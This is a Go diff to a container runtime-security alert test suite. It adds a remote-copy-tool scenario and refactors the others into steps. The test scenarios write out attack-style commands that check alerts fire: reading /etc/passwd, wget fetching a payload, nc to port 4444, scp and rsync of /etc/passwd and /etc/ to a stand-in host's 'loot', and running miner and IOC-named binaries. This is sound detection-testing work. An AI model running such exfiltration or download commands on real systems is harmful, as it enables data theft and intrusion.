@@ -20,6 +20,7 @@ const (
 	iocAlert        = "RtsecIOCBinaryExecuted"
 	newBinaryAlert  = "RtsecNewBinaryInWorkload"
 	overflowAlert   = "RtsecExecLabelBudgetOverflow"
+	remoteCopyAlert = "RtsecRemoteCopyToolInContainer"
 )
 
 // anyAlert forbids every alert on a scenario's containers.
@@ -35,7 +36,7 @@ var Scenarios = []Scenario{
 	{
 		Name:        "shell-in-container",
 		Description: "An attacker runs shell commands in a running container (sh -c).",
-		Action:      func(e *Env) { e.Exec("sh", "-c", "id; hostname; cat /etc/passwd >/dev/null") },
+		Steps:       []Step{Cmd("sh", "-c", "id; hostname; cat /etc/passwd >/dev/null")},
 		Expect:      []Match{Named(shellAlert, "binary", "sh"), Named(unexpectedAlert, "binary", "sh")},
 		// A young workload has no history: the new-binary guard must hold.
 		Forbid: []Match{Named(newBinaryAlert), Named(networkAlert), Named(minerAlert)},
@@ -43,28 +44,44 @@ var Scenarios = []Scenario{
 	{
 		Name:        "unexpected-exec",
 		Description: "Discovery commands outside the namespace allowlist (id, uname), run directly, without a shell.",
-		Action: func(e *Env) {
-			e.Exec("id")
-			e.Exec("uname", "-a")
-		},
-		Expect: []Match{Named(unexpectedAlert, "binary", "id"), Named(unexpectedAlert, "binary", "uname")},
-		Forbid: []Match{Named(shellAlert), Named(networkAlert), Named(newBinaryAlert)},
+		Steps:       []Step{Cmd("id"), Cmd("uname", "-a")},
+		Expect:      []Match{Named(unexpectedAlert, "binary", "id"), Named(unexpectedAlert, "binary", "uname")},
+		Forbid:      []Match{Named(shellAlert), Named(networkAlert), Named(newBinaryAlert)},
 	},
 	{
 		Name:        "network-tool",
 		Description: "Remote copy and raw connection attempts with busybox wget and nc (they fail: the container has no network).",
-		Action: func(e *Env) {
-			e.Try("wget", "-q", "-T", "1", "-O", "/tmp/payload", "http://127.0.0.1:9/payload")
-			e.Try("nc", "-w", "1", "127.0.0.1", "4444")
+		Steps: []Step{
+			TryCmd("wget", "-q", "-T", "1", "-O", "/tmp/payload", "http://127.0.0.1:9/payload"),
+			TryCmd("nc", "-w", "1", "127.0.0.1", "4444"),
 		},
 		Expect: []Match{Named(networkAlert, "binary", "wget"), Named(networkAlert, "binary", "nc")},
 		Forbid: []Match{Named(shellAlert), Named(minerAlert)},
 	},
 	{
+		Name:        "remote-copy-tool",
+		Description: "Remote copy tools run in a container (scp, rsync and sftp: busybox links, the exec is what counts).",
+		Setup: func(e *Env) {
+			for _, tool := range []string{"scp", "rsync", "sftp"} {
+				e.link("/usr/bin/" + tool)
+			}
+		},
+		Steps: []Step{
+			TryCmd("/usr/bin/scp", "/etc/passwd", "backup@203.0.113.10:/tmp/"),
+			TryCmd("/usr/bin/rsync", "-a", "/etc/", "203.0.113.10::loot"),
+			TryCmd("/usr/bin/sftp", "backup@203.0.113.10"),
+		},
+		Expect: []Match{
+			Named(remoteCopyAlert, "binary", "scp"), Named(remoteCopyAlert, "binary", "rsync"), Named(remoteCopyAlert, "binary", "sftp"),
+			Named(networkAlert, "binary", "scp"), Named(networkAlert, "binary", "rsync"), Named(networkAlert, "binary", "sftp"),
+		},
+		Forbid: []Match{Named(minerAlert)},
+	},
+	{
 		Name:        "miner-in-container",
 		Description: "A binary named xmrig (a busybox link) is executed in a container.",
 		Setup:       func(e *Env) { e.link("/tmp/xmrig") },
-		Action:      func(e *Env) { e.Try("/tmp/xmrig", "--donate-level", "1") },
+		Steps:       []Step{TryCmd("/tmp/xmrig", "--donate-level", "1")},
 		Expect:      []Match{Named(minerAlert, "binary", "xmrig")},
 		Forbid:      []Match{Named(shellAlert), Named(networkAlert)},
 	},
@@ -72,15 +89,16 @@ var Scenarios = []Scenario{
 		Name: "miner-on-host",
 		Description: "A binary named xmrig runs on the host, outside any container: the miner class alert covers the host too. " +
 			"(The binary-name alert may not see it: a busy host cgroup spends its kernel name budget, and classes are counted before it.)",
-		Setup:  func(e *Env) { e.hostBinary("xmrig") },
-		Action: func(e *Env) { e.runHost("xmrig") },
-		Expect: []Match{Named("RtsecMinerClassExecuted", "container_id", "", "class", "miner")},
+		Setup:      func(e *Env) { e.hostBinary("xmrig") },
+		Action:     func(e *Env) { e.runHost("xmrig") },
+		NoVariants: "runs on the host: there is no container to start",
+		Expect:     []Match{Named("RtsecMinerClassExecuted", "container_id", "", "class", "miner")},
 	},
 	{
 		Name:        "ioc-binary",
 		Description: "A binary named kinsing (threat-intelligence IOC list; a busybox link) is executed in a container.",
 		Setup:       func(e *Env) { e.link("/tmp/kinsing") },
-		Action:      func(e *Env) { e.Try("/tmp/kinsing") },
+		Steps:       []Step{TryCmd("/tmp/kinsing")},
 		Expect:      []Match{Named(iocAlert, "binary", "kinsing")},
 		Forbid:      []Match{Named(minerAlert), Named(shellAlert)},
 	},
@@ -88,16 +106,17 @@ var Scenarios = []Scenario{
 		Name: "new-binary-in-workload",
 		Description: "An established workload (history older than the learning period) copies busybox to /tmp/busyboxd " +
 			"and runs it. Outside Kubernetes the workload key is the container id.",
-		Age:    duration(LearningPeriod) + 15*time.Second,
-		Action: func(e *Env) { e.Exec("cp", "/bin/busybox", "/tmp/busyboxd"); e.Exec("/tmp/busyboxd", "true") },
-		Expect: []Match{Named(newBinaryAlert, "binary", "busyboxd")},
-		Forbid: []Match{Named(shellAlert)},
+		Age:        duration(LearningPeriod) + 15*time.Second,
+		Steps:      []Step{Cmd("cp", "/bin/busybox", "/tmp/busyboxd"), Cmd("/tmp/busyboxd", "true")},
+		NoVariants: "needs an established workload: history older than the learning period, which a new container has not",
+		Expect:     []Match{Named(newBinaryAlert, "binary", "busyboxd")},
+		Forbid:     []Match{Named(shellAlert)},
 	},
 	{
 		Name:        "exec-label-budget-overflow",
 		Description: fmt.Sprintf("A container execs %d distinct binary names, more than the exporter's per-container budget: the rest count as _other.", overflowNames),
 		Setup:       func(e *Env) { e.overflowLinks(overflowNames) },
-		Action:      func(e *Env) { e.Exec("sh", "/x/run.sh") },
+		Steps:       []Step{Cmd("sh", "/x/run.sh")},
 		Expect:      []Match{Named(overflowAlert, "binary", "_other")},
 	},
 	{
@@ -168,7 +187,11 @@ func Names() []string {
 // it counts under the link's name (busybox then finds no such applet).
 func (e *Env) link(path string) {
 	e.T.Helper()
-	if err := os.Symlink("/bin/busybox", filepath.Join(e.Main().Rootfs(), path)); err != nil {
+	dst := filepath.Join(e.Main().Rootfs(), path)
+	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
+		e.T.Fatalf("link %s: %v", path, err)
+	}
+	if err := os.Symlink("/bin/busybox", dst); err != nil {
 		e.T.Fatalf("link %s: %v", path, err)
 	}
 }
